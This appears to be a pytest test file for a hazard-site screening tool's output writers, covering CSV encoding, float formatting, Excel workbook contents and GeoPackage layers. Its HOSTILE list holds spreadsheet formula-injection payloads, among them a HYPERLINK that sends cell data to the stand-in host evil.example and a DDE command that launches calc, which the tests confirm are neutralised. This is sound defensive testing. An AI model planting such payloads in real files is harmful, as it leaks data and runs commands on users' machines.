"""Result tables as Excel and QGIS users open them: BOM, clean floats, no formulas, results.xlsx."""

from __future__ import annotations

import pandas as pd
import pytest
from openpyxl import load_workbook

import hazid
from hazid.escape import clean_float, spreadsheet_text
from hazid.output.results import read_table, write_csv
from hazid.output.workbook import write_workbook

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "  =1+1",
    "\r=1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_cells_are_neutralised(text):
    assert spreadsheet_text(text) == "'" + text


def test_plain_text_and_numbers_are_untouched():
    assert spreadsheet_text("Ташкент") == "Ташкент"
    assert spreadsheet_text(-3.5) == -3.5
    assert spreadsheet_text("KG-001") == "KG-001"


def test_floats_are_written_short():
    assert clean_float(1.7999999999999998) == 1.8
    assert repr(clean_float(0.1 + 0.2)) == "0.3"
    assert clean_float(float("nan")) != clean_float(float("nan"))  # stays NaN


def test_csv_has_bom_cyrillic_and_no_live_formula(tmp_path):
    df = pd.DataFrame({"site_name": ["Завод №1", HOSTILE[0]], "ratio": [1.7999999999999998, 2.0]})
    p = write_csv(df, tmp_path / "t.csv")
    raw = p.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # Excel's rule for UTF-8
    back = pd.read_csv(p, encoding="utf-8-sig")
    assert back["site_name"].tolist() == ["Завод №1", "'" + HOSTILE[0]]
    assert raw.decode("utf-8-sig").splitlines()[1].endswith(",1.8")
    assert "1.7999999999999998" not in raw.decode("utf-8-sig")
    assert read_table(p)["site_name"].tolist() == ["Завод №1", HOSTILE[0]]


def test_workbook_types_headings_and_formula_safety(tmp_path):
    df = pd.DataFrame(
        {
            "site_id": ["A", "B"],
            "site_name": ["=1+1", "Завод"],
            "hazardous": [True, False],
            "quantity_t": [30.0, 1.7999999999999998],
            "row": [1, 2],
        }
    )
    p = write_workbook(tmp_path / "r.xlsx", {"sites": df, "none": None})
    ws = load_workbook(p)["sites"]
    assert load_workbook(p).sheetnames == ["sites"]
    assert [c.value for c in ws[1]] == ["site_id", "site_name", "hazardous", "quantity_t", "row"]
    assert [c.value for c in ws[2]] == ["A", "'=1+1", True, 30.0, 1]
    assert ws["D3"].value == 1.8 and ws["B2"].data_type == "s"
    assert ws.freeze_panes == "A2" and ws.auto_filter.ref == "A1:E3"


def _inventory():
    return pd.DataFrame(
        {
            "site_id": ["A", "B"],
            "site_name": ['=HYPERLINK("http://x")', "Чимкент НПЗ"],
            "lon": ["69.2", "69.6"],
            "lat": ["41.3", "42.3"],
            "substance": ["chlorine", "gasoline"],
            "quantity": ["30", "30000"],
        }
    )


@pytest.mark.parametrize(
    ("lang", "heading"), [("en", "Maximum quantity (t)"), ("ru", "Максимальное количество (т)")]
)
def test_results_workbook_follows_the_language(tmp_path, lang, heading):
    res = hazid.screen(_inventory(), borders=False, rivers=False)
    out = hazid.write_results(res, tmp_path / "r", map_html=False, lang=lang)
    wb = load_workbook(out / "results.xlsx")
    assert wb.sheetnames[:2] == ["sites", "holdings"]
    holdings = wb["holdings"]
    headings = [c.value for c in holdings[1]]
    assert heading in headings
    col = headings.index(heading) + 1
    value = holdings.cell(row=2, column=col).value
    assert isinstance(value, int | float) and not isinstance(value, bool) and value == 30
    sites = wb["sites"]
    names = [sites.cell(row=r, column=2).value for r in (2, 3)]
    assert names == ['\'=HYPERLINK("http://x")', "Чимкент НПЗ"]
    # the CSV beside it: BOM, Cyrillic read back by pandas, the formula neutralised
    back = pd.read_csv(out / "sites.csv", encoding="utf-8-sig")
    assert back["site_name"].tolist() == names


def test_workbook_is_the_same_bytes_each_time_and_escapes_xml(tmp_path):
    df = pd.DataFrame(
        {"name": ["a & <b>", "bell\x07", "", "z"], "q": [1.0, 0.1 + 0.2, float("nan"), 2.5]}
    )
    a = write_workbook(tmp_path / "a.xlsx", {"t & <x>": df}).read_bytes()
    b = write_workbook(tmp_path / "b.xlsx", {"t & <x>": df}).read_bytes()
    assert a == b
    wb = load_workbook(tmp_path / "a.xlsx")
    ws = wb["t & <x>"]
    assert [[c.value for c in row] for row in ws.iter_rows()] == [
        ["name", "q"],
        ["a & <b>", 1],
        ["bell", 0.3],
        [None, None],
        ["z", 2.5],
    ]


@pytest.mark.parametrize("chunk", [20_000, 4])
def test_sheet_rows_are_the_cells_written_one_by_one(chunk, monkeypatch):
    from hazid.output import workbook
    from hazid.output.workbook import _cell, _sheet_xml

    monkeypatch.setattr(workbook, "_CHUNK_ROWS", chunk)  # blocks of rows, cut mid-column

    df = pd.DataFrame(
        {
            "text": pd.Series(["a & <b>", "\x01", "=1", None, " -2", "x"], dtype="str"),
            "obj": ["a<", None, float("nan"), "@b", "", "y"],
            "mixed": ["=1", 1, True, 2.0000000000000004, None, "z"],
            "f": [float("nan"), float("inf"), -0.0, 1e16, 1.7999999999999998, 0.1 + 0.2],
            "f32": pd.Series([0.1, 2.0, -0.0, 1e-5, 3.5, 0.0], dtype="float32"),
            "b": [True, False, True, False, True, False],
            "i": [-3, 0, 10**15, 2**62, 7, 1],
            "j": [-3, 0, 10**15 - 1, -(10**15) + 1, 7, 1],
            "u": pd.Series([0, 1, 2, 3, 255, 7], dtype="uint8"),
            "n": pd.Series([1, None, 3, 4, 5, 6], dtype="Int64"),
            "none": [float("nan")] * 6,
        }
    )
    xml = b"".join(
        p.encode("utf-8") if isinstance(p, str) else p for p in _sheet_xml(df, list(df.columns))
    ).decode("utf-8")
    letters = "ABCDEFGHIJK"
    want = "".join(
        f'<row r="{r}">'
        + "".join(_cell(f"{a}{r}", v) for a, v in zip(letters, row, strict=True))
        + "</row>"
        for r, row in enumerate(df.astype(object).itertuples(index=False), start=2)
    )
    assert xml[xml.index('<row r="2">') : xml.index("</sheetData>")] == want
    assert '<c r="A3" t="inlineStr"><is><t xml:space="preserve"></t></is></c>' in want


def test_layers_written_through_arrow_are_those_written_row_by_row(tmp_path, monkeypatch):
    import geopandas as gpd
    import pyogrio
    import shapely

    from hazid.output import results

    square = shapely.box(0, 0, 1, 1)
    layers = {
        "zones": gpd.GeoDataFrame(
            {
                "site_id": pd.Series(["a", None, "c"], dtype="str"),
                "ok": [True, False, True],
                "km": [1.5, float("nan"), 2.0],
            },
            geometry=[square, shapely.MultiPolygon([square, shapely.box(2, 2, 3, 3)]), None],
            crs=4326,
        ),
        "sites": gpd.GeoDataFrame({"n": [1, 2]}, geometry=[shapely.Point(1, 2), None], crs=4326),
    }
    fast = results.write_layers(tmp_path / "fast.gpkg", layers)
    monkeypatch.setattr(results, "_GDAL_ARROW", False)
    slow = results.write_layers(tmp_path / "slow.gpkg", layers)
    for name in layers:
        a, b = pyogrio.read_info(fast, layer=name), pyogrio.read_info(slow, layer=name)
        for key in ("fields", "dtypes", "geometry_type", "features"):
            assert str(a[key]) == str(b[key])
        got, want = gpd.read_file(fast, layer=name), gpd.read_file(slow, layer=name)
        assert got.drop(columns="geometry").equals(want.drop(columns="geometry"))
        assert got.geometry.to_wkb().fillna(b"").equals(want.geometry.to_wkb().fillna(b""))


def test_a_table_longer_than_a_sheet_goes_on_in_further_sheets(tmp_path, monkeypatch):
    from hazid.output import workbook

    monkeypatch.setattr(workbook, "SHEET_ROWS", 3)  # 1,048,575 rows, scaled down
    long = pd.DataFrame({"site_id": [f"S{i}" for i in range(7)], "n": list(range(7))})
    name = "a_name_of_thirty_one_characters"
    path = write_workbook(tmp_path / "r.xlsx", {name: long, "b": long.head(3)})
    wb = load_workbook(path)
    assert wb.sheetnames == [
        name,
        "a_name_of_thirty_one_charac (2)",
        "a_name_of_thirty_one_charac (3)",
        "b",
    ]
    rows = [[c.value for c in r] for ws in wb.worksheets[:3] for r in ws.iter_rows(min_row=2)]
    assert rows == [[f"S{i}", i] for i in range(7)]
    assert [ws.max_row for ws in wb.worksheets] == [4, 4, 2, 4]  # each with its header row
    assert all(ws["A1"].value == "site_id" and ws.freeze_panes == "A2" for ws in wb.worksheets)


def test_workbook_parts_deflated_at_the_stated_level(tmp_path):
    import zipfile

    from hazid.output import zippackage

    n = range(3000)
    df = pd.DataFrame({"site_id": [f"S{i:05d}" for i in n], "ratio": [float(i) for i in n]})
    path = write_workbook(tmp_path / "r.xlsx", {"sites": df})
    with zipfile.ZipFile(path) as zf:
        assert zf.testzip() is None
        infos = zf.infolist()
        assert infos and all(i.compress_type == zipfile.ZIP_DEFLATED for i in infos)
        for info in infos:
            data = zf.read(info)
            level = zippackage._deflater.compressobj(zippackage.LEVEL, 8, -15)
            assert info.compress_size == len(level.compress(data) + level.flush()), info.filename
    # the same tables, the same bytes
    again = write_workbook(tmp_path / "again.xlsx", {"sites": df})
    assert again.read_bytes() == path.read_bytes()


def test_repr_length_bounds_are_never_below_the_text():
    import numpy as np

    from hazid.output.arrowtext import repr_length_bounds

    rng = np.random.default_rng(7)
    parts = [rng.standard_normal(20_000) * 10.0 ** rng.integers(-30, 30, 20_000)]
    for decimals in range(10):  # short decimals: their length is found exactly
        parts.append(
            np.round(rng.standard_normal(5_000) * 10.0 ** rng.integers(-6, 17, 5_000), decimals)
        )
    edges = [1e15, 1e16, 9.999999999999999e15, 999999999999999.9, 1e-4, 1e-5, 5e-324, 1e-310]
    parts.append(np.array([*edges, 1.7976931348623157e308, 1e100, 1e-100, 1e22, 1 / 3, 0.1 + 0.2]))
    x = np.concatenate(parts)
    x = x[np.isfinite(x) & (x != 0)]
    x = np.concatenate([x, -x])
    bounds = repr_length_bounds(x)
    lengths = np.array([len(repr(v)) for v in x.tolist()])
    assert (bounds >= lengths).all()
    near = x[(np.abs(x) > 1e-3) & (np.abs(x) < 1e11)]
    short = np.round(near, 3)  # 15 digits or fewer: their length exactly
    assert repr_length_bounds(short).tolist() == [len(repr(v)) for v in short.tolist()]


@pytest.mark.parametrize("dtype", ["float64", "float32"])
def test_longest_text_of_floats_is_that_of_every_value_written(dtype):
    import numpy as np

    from hazid.output.sheetcells import longest_text

    rng = np.random.default_rng(5)
    for _ in range(200):
        n = int(rng.integers(1, 40))
        x = np.round(rng.standard_normal(n) * 10.0 ** rng.integers(-12, 20, n), rng.integers(0, 9))
        x[rng.random(n) < 0.1] = np.nan
        x[rng.random(n) < 0.05] = -0.0
        x[rng.random(n) < 0.02] = -np.inf
        with np.errstate(over="ignore"):
            col = pd.Series(x.astype(dtype))
        assert longest_text(col) == max(len(str(v)) for v in col.tolist())


def test_column_names_of_the_workbook_are_those_openpyxl_gives():
    from openpyxl.utils import get_column_letter

    from hazid.output.workbook import _column_letter

    for n in [*range(1, 800), 16383, 16384]:
        assert _column_letter(n) == get_column_letter(n)


def test_a_layer_that_cannot_be_written_says_which_and_the_free_space(tmp_path, monkeypatch):
    import collections

    import geopandas as gpd
    import pyogrio
    import shapely

    from hazid.output import results

    def full_disk(self, *args, **kwargs):
        raise pyogrio.errors.DataSourceError("cannot rollback - no transaction is active")

    usage = collections.namedtuple("usage", "total used free")
    monkeypatch.setattr(gpd.GeoDataFrame, "to_file", full_disk)
    monkeypatch.setattr(results.shutil, "disk_usage", lambda p: usage(10**9, 10**9, 7 * 10**6))
    sites = gpd.GeoDataFrame({"n": [1]}, geometry=[shapely.Point(1, 2)], crs=4326)
    with pytest.raises(
        hazid.OutputError,
        match=r"cannot write r\.gpkg \(layer sites\): cannot rollback - no transaction is "
        r"active; the layer needs about 0 MB and 7 MB are free on the disk of the output folder",
    ):
        results.write_layers(tmp_path / "r.gpkg", {"sites": sites})


def test_a_layer_in_a_missing_folder_says_the_free_space_is_unknown(tmp_path):
    import geopandas as gpd
    import shapely

    from hazid.output import results

    sites = gpd.GeoDataFrame({"n": [1]}, geometry=[shapely.Point(1, 2)], crs=4326)
    with pytest.raises(
        hazid.OutputError, match=r"cannot write r\.gpkg \(layer sites\): .*free disk space unknown"
    ):
        results.write_layers(tmp_path / "missing" / "r.gpkg", {"sites": sites})
